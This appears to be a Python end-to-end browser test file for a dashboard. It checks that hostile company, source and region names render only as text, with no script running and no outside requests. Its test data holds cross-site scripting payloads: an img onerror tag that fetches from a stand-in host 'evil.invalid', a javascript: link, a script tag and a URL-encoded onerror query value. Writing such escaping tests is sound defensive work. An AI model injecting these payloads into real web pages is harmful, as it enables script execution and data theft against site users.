"""Names that try to be more than names: shown as typed, and nobody is called."""

import shutil
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from data.demo import DEMO_WORKSPACE
from data.load import load
from tests.end_to_end.visits import WAIT, visit
from tests.sessions import Server, serving

pytestmark = pytest.mark.browser

TAG = "<img src=x onerror=fetch('//evil.invalid/a')>"
PICTURE = "![p](http://evil.invalid/p.png) $e^x$"
LINK = "[go](javascript:alert(1)) <b>bold</b>"
TURNED = "Part\u202enrut" + "x" * 10_000
NAMES = {"Webinar": TAG, "Trade show": LINK, "Website": TURNED, "West": PICTURE}


@pytest.fixture(scope="module")
def hostile(demo_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The demo company with sources, a region and a name of its own that mean harm."""
    folder, store = tmp_path_factory.mktemp("files"), tmp_path_factory.mktemp("store")
    for file in demo_folder.iterdir():
        copied = folder / file.name
        shutil.copy(file, copied)
        raw = copied.read_bytes()
        for name, harm in NAMES.items():
            raw = raw.replace(f",{name},".encode(), f",{harm},".encode())
        copied.write_bytes(raw)
    settings = DEMO_WORKSPACE.replace("Northbeam Instruments", "<script>alert(1)</script>")
    (store / "tandem.toml").write_text(settings, encoding="utf-8")
    load([folder], store, now=datetime(2026, 11, 16, 12, tzinfo=UTC))
    with serving(store) as server:
        yield server


@pytest.mark.parametrize("path", ["", "funnel", "claims", "lead_sources", "pipeline", "bookings"])
def test_hostile_names_are_only_text(hostile: Server, browser: Browser, path: str) -> None:
    seen = visit(browser, hostile.port, path)
    asked: list[str] = []
    seen.page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    seen.settle()
    seen.page.locator(".st-key-scope_source input").click()
    seen.page.get_by_role("option", name=TAG).first.wait_for(timeout=WAIT)
    text = seen.page.inner_text("body")
    assert TAG in text
    assert "<script>alert(1)</script>" in text
    assert seen.strangers == []
    assert asked == []
    assert seen.faults == []
    assert seen.page.locator("[data-testid=stMain] b, .t-table img").count() == 0
    seen.close()


def test_a_link_with_a_hostile_word_is_answered_in_words(hostile: Server, browser: Browser) -> None:
    seen = visit(browser, hostile.port, "?region=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")
    seen.see("There is no region")
    assert "<img src=x onerror=alert(1)>" in seen.page.inner_text("body")
    assert seen.strangers == []
    seen.close()
